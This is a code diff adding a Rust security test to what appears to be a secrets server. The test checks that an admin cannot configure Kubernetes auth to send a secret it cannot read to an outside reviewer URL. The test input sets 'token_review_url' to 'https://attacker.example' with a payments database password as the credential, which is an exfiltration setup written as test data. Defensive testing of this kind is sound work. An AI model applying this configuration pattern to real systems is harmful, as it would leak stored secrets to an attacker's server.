@@ -360,3 +360,43 @@ async fn kubernetes_login_matrix() {
     );
     assert!(!log.contains(&api_jwt) && !log.contains(&api), "no JWT or token in the audit log");
 }
+
+/// The attack: an identity allowed to configure Kubernetes auth, but not to read a secret,
+/// names that secret as the TokenReview reviewer's credential and its own server as the API
+/// server, so that every login would send the secret to it. Configuring is refused unless the
+/// caller may read the secret, and the refusal is audited.
+#[tokio::test]
+async fn the_reviewer_secret_must_be_readable_by_whoever_configures_it() {
+    let srv = TestServer::start().await;
+    let c = srv.client();
+    let put = |k: &str, v: &str| std::collections::BTreeMap::from([(k.to_string(), v.to_string())]);
+    c.put_secret("payments/db", &put("password", "hunter2"), None).await.unwrap();
+    c.put_secret("kubernetes/reviewer", &put("token", "t"), None).await.unwrap();
+    let json_body = |v: Value| v.to_string().into_bytes();
+    let policy = json!({"rules": [
+        {"resources": ["auth/kubernetes/config"], "operations": ["admin"]},
+        {"resources": ["secrets/kubernetes/*"], "operations": ["read"]}]});
+    let ct = Some("application/json");
+    let v = raw(&srv.addr, "PUT", "/v1/policies/k8s-admin", Some(&srv.token), ct, json_body(policy)).await;
+    assert_eq!(v.0, 200, "{:?}", v.1);
+    let body = json_body(json!({"policies": ["k8s-admin"]}));
+    let t = raw(&srv.addr, "POST", "/v1/auth/token/create", Some(&srv.token), ct, body).await;
+    let admin = t.1["token"].as_str().unwrap().to_string();
+    let configure = |secret: &str| {
+        json_body(json!({"issuer": "https://127.0.0.1:1", "audience": "keyward", "discovery": true,
+               "token_review_url": "https://attacker.example", "token_reviewer_secret": secret}))
+    };
+    let stolen =
+        raw(&srv.addr, "PUT", "/v1/auth/kubernetes/config", Some(&admin), ct, configure("payments/db#password")).await;
+    assert_eq!(stolen.0, 403, "{:?}", stolen.1);
+    let own =
+        raw(&srv.addr, "PUT", "/v1/auth/kubernetes/config", Some(&admin), ct, configure("kubernetes/reviewer#token"))
+            .await;
+    assert_eq!(own.0, 200, "{:?}", own.1);
+    let file = c.audit_info().await.unwrap().file.unwrap();
+    let audit = keyward_test_support::audit_text(std::path::Path::new(&file));
+    assert!(
+        audit.lines().any(|l| l.contains("\"deny\"") && l.contains("secrets/payments/db")),
+        "the refusal is audited"
+    );
+}
